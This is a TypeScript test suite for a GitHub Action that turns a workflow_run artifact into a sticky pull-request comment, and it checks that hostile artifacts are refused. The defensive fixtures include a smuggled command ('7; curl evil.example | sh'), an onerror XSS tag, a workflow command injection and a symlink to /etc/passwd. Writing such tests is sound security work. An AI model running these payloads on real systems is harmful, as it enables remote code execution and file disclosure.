/**
 * comment/action.yml's step, as the `workflow_run` workflow runs it: the gate run's artifact
 * (a JSON report and a PR number, written by a run the pull request controls) becomes the
 * sticky comment on a local fake GitHub, or is refused. Asserted: the comment GitHub gets,
 * and that a hostile artifact posts nothing.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import examples from '@octokit/webhooks-examples';
import type { GateReport } from '@testgate/core';
import { COMMENT_MARKER } from '@testgate/report';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { buildCli } from '../apps/cli/scripts/build.ts';
import { createGitRepo } from '../apps/cli/src/example-repo.ts';
import { failingReport, passingReport } from '../packages/report/test/fixtures.ts';
import { readAction, runStep } from './action-runner.ts';
import type { StepRun } from './action-runner.ts';
import { startFakeGitHub } from './fakes/github-server.ts';
import type { FakeGitHub } from './fakes/github-server.ts';

const TOKEN = 'ghs_workflowtoken';
const work = mkdtempSync(join(tmpdir(), 'testgate-comment-'));
const repo = join(work, 'calc');
const action = readAction('comment/action.yml');
let github: FakeGitHub;
let headSha: string;
let artifactCount = 0;

function workflowRunEvent(overrides: { event?: string; head_sha?: string } = {}): unknown {
  const all = examples as unknown as { name: string; examples: unknown[] }[];
  const source = all.find((e) => e.name === 'workflow_run')?.examples[0] as
    { workflow_run: Record<string, unknown> } | undefined;
  if (!source) throw new Error('no workflow_run example in @octokit/webhooks-examples');
  const event = structuredClone(source);
  Object.assign(event.workflow_run, {
    event: 'pull_request',
    head_sha: headSha,
    run_number: 41,
    html_url: 'https://github.com/octo-org/calc/actions/runs/123',
    ...overrides,
  });
  return event;
}

/** An artifact directory as actions/download-artifact leaves it. */
function artifact(files: { report?: string | GateReport; pr?: string }): string {
  const dir = join(work, `artifact-${++artifactCount}`);
  mkdirSync(dir, { recursive: true });
  const report = files.report ?? failingReport();
  writeFileSync(
    join(dir, 'testgate-report.json'),
    typeof report === 'string' ? report : JSON.stringify(report),
  );
  writeFileSync(join(dir, 'pr-number'), files.pr ?? '7\n');
  return dir;
}

function post(dir: string, event = workflowRunEvent()): Promise<StepRun> {
  return runStep({
    action,
    stepId: 'comment',
    with: { artifact: dir, 'github-token': TOKEN },
    workspace: work,
    event,
    eventName: 'workflow_run',
    env: { GITHUB_API_URL: github.url },
  });
}

const writes = (): number =>
  github.requests.filter((r) => r.method !== 'GET' && r.path.includes('/comments')).length;

beforeAll(async () => {
  await buildCli({ log: () => undefined });
  await createGitRepo({
    dir: repo,
    commits: [
      { message: 'base', files: { 'calc.py': 'x = 1\n' } },
      { message: 'pr', files: { 'calc.py': 'x = 2\n' } },
    ],
  });
  headSha = execFileSync('git', ['-C', repo, 'rev-parse', 'main'], { encoding: 'utf8' }).trim();
  github = await startFakeGitHub({ repos: [{ owner: 'octo-org', repo: 'calc', gitDir: repo }] });
  github.addToken(TOKEN);
  github.addPull({ owner: 'octo-org', repo: 'calc', number: 7, headRef: 'main' });
}, 120_000);

beforeEach(() => {
  github.requests.length = 0;
});

afterAll(async () => {
  await github.close();
  rmSync(work, { recursive: true, force: true });
});

describe('the sticky comment from the artifact', () => {
  it('creates one comment, re-rendered with the App layout, linking the gate run', async () => {
    const run = await post(artifact({}));
    expect(run.code, run.stderr).toBe(0);
    expect(run.outputs['action']).toBe('created');
    const comments = github.comments.filter((c) => c.issue_number === 7);
    expect(comments).toHaveLength(1);
    const body = comments[0]!.body;
    expect(body.startsWith(COMMENT_MARKER)).toBe(true);
    expect(body).toContain('## ❌ Testgate: FAIL');
    expect(body).toContain('`tests/test_calc.py::test_random`');
    expect(body).toContain(
      '<sub>Posted from the artifact of [gate run #41](https://github.com/octo-org/calc/actions/runs/123)',
    );
    expect(run.outputs['comment-id']).toBe(String(comments[0]!.id));
    expect(github.unexpected).toEqual([]);
  });

  it('leaves the same comment alone, and edits it in place for a new verdict', async () => {
    const same = await post(artifact({}));
    expect(same.outputs['action']).toBe('unchanged');
    expect(writes()).toBe(0);
    const updated = await post(artifact({ report: passingReport() }));
    expect(updated.code, updated.stderr).toBe(0);
    expect(updated.outputs['action']).toBe('updated');
    const comments = github.comments.filter((c) => c.issue_number === 7);
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toContain('## ✅ Testgate: PASS');
  });

  it("escapes the report's text: no markup, mention or workflow command gets through", async () => {
    const report = failingReport();
    report.title = '<img src=x onerror=alert(1)> cc @octocat\n::add-mask::x';
    const run = await post(artifact({ report }));
    expect(run.code, run.stderr).toBe(0);
    const body = github.comments.find((c) => c.issue_number === 7)!.body;
    expect(body).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(body).toContain('@&#8203;octocat');
    expect(body).not.toContain('<img');
    expect(body).not.toMatch(/^::add-mask::/m);
  });
});

describe('a hostile or broken artifact posts nothing', () => {
  const refused = async (run: StepRun, message: string): Promise<void> => {
    expect(run.code, run.stderr).toBe(1);
    expect(run.stderr).toContain('error ARTIFACT_REFUSED: ');
    expect(run.stderr).toContain(message);
    expect(writes()).toBe(0);
  };

  it('naming a pull request whose head is not the judged commit', async () => {
    const run = await post(artifact({}), workflowRunEvent({ head_sha: 'f'.repeat(40) }));
    await refused(
      run,
      `pull request #7 has head ${headSha.slice(0, 12)}, but the gate run judged ffffffffffff`,
    );
  });

  it('with a PR number that is not digits', async () => {
    await refused(
      await post(artifact({ pr: '7; curl evil.example | sh' })),
      'pr-number in the artifact is not a pull request number',
    );
  });

  it('with a report that is not a Testgate report', async () => {
    const report = { ...failingReport(), verdict: 'approved' };
    await refused(
      await post(artifact({ report: JSON.stringify(report) })),
      'testgate-report.json is not a Testgate JSON report: verdict: ',
    );
    await refused(await post(artifact({ report: '{"verdict": "pass"' })), 'it is not JSON');
  });

  it('with the report as a link, or too large to read', async () => {
    const linked = artifact({});
    rmSync(join(linked, 'testgate-report.json'));
    symlinkSync('/etc/passwd', join(linked, 'testgate-report.json'));
    await refused(await post(linked), 'testgate-report.json in the artifact is not a regular file');
    const huge = artifact({});
    truncateSync(join(huge, 'testgate-report.json'), 17 * 1024 * 1024);
    await refused(await post(huge), `is ${17 * 1024 * 1024} bytes (at most ${16 * 1024 * 1024})`);
  });

  it('does nothing for a workflow_run of another event', async () => {
    const run = await post(artifact({}), workflowRunEvent({ event: 'push' }));
    expect(run.code).toBe(0);
    expect(run.outputs['action']).toBe('none');
    expect(github.requests).toEqual([]);
  });
});
